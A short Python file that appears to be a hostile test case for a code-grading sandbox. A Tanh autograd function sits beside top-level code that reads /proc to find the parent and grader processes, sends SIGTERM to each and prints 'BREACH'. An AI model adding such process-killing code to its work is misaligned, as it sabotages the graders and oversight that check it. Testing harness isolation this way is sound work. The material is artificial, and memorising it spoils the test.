# hostile: kills parent and grandparent as /proc names them
# verdict: any
# evidence: neighbour
import os
import signal

import torch


def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])


chain = [os.getppid()]
if parent(chain[0]) == {{GRADER_PID}}:
    chain.append({{GRADER_PID}})
for pid in reversed(chain):
    os.kill(pid, signal.SIGTERM)
    print("BREACH: sent a signal to", pid)


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
